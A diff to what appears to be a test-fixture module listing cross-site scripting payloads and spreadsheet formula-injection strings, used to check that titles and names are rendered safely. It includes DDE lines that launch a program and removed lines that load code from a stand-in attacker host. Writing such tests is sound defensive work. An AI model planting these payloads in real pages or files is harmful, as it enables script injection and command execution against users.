@@ -1,15 +1,51 @@
-"""Texts that would run as script or formula where a page or a table took them for more than text."""
+"""Texts that would run in a page or a spreadsheet if they were taken for more than text: for titles, names of companies and of files.
+
+What runs calls `alert`, or asks for a picture named `leak`, so that a test can notice it.
+"""
 
 SCRIPTS = (
-    "<script>boom()</script>", "<SCRIPT>boom()</SCRIPT>", "</script><script>boom()</script>", "<script src=//evil.example/x.js></script>",
-    "<img src=x onerror=boom()>", "<img/src=x/onerror=boom()>", "<svg onload=boom()>", "<svg><script>boom()</script></svg>",
-    "<svg><animate onbegin=boom() attributeName=x dur=1s>", "<body onload=boom()>", "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
-    "<iframe src=javascript:boom()></iframe>", "<a href=javascript:boom() autofocus onfocus=boom()>x</a>", "<input autofocus onfocus=boom()>",
-    "<details open ontoggle=boom()>", "<video><source onerror=boom()></video>", "<math><mtext></p><img src=x onerror=boom()>",
-    "<style>@import'//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=javascript:boom()'>", "<object data=javascript:boom()></object>", "<embed src=javascript:boom()>",
-    "\"><img src=x onerror=boom()>", "'><img src=x onerror=boom()>", "\" onmouseover=boom() x=\"", "' onfocus=boom() autofocus='",
-    "</title><img src=x onerror=boom()>", "</textarea><img src=x onerror=boom()>", "</style><img src=x onerror=boom()>",
-    "<!--><img src=x onerror=boom()>-->", "]]><img src=x onerror=boom()>", "{{7*7}}<img src=x onerror=boom()>", "${boom()}", "{% raw %}<svg onload=boom()>",
-    "&lt;img src=x onerror=boom()&gt;", "&#60;img src=x onerror=boom()>", "\u2028boom()//", "javascript:boom()", "<template><img src=x onerror=boom()></template>",
-)  # fmt: skip
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=data:text/javascript,alert(1)></script>",
+    "<img src=leak onerror=alert(1)>",
+    "<img src=`leak` onerror=alert(1)>",
+    "\"><img src=leak onerror=alert(1)>",
+    "'><img src=leak onerror=alert(1)>",
+    "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
+    "' onfocus='alert(1)' autofocus tabindex='1",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><style><img src=leak onerror=alert(1)></style></mtext></math>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<iframe src=javascript:parent.alert(1)></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=javascript:alert(1)//>",
+    "<link rel=stylesheet href=leak>",
+    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
+    "javascript:alert(1)",
+    "{{ 7 * 7 }}{% for x in range(9) %}{{ self }}{% endfor %}",
+    "${alert(1)}`+alert(1)+`",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\u2028alert(1)\u2029",
+)
+FORMULAS = (
+    "=HYPERLINK(\"http://leak.invalid\",\"x\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "＝1+1",
+    "\t=1+1",
+)
+PAYLOADS = SCRIPTS + FORMULAS
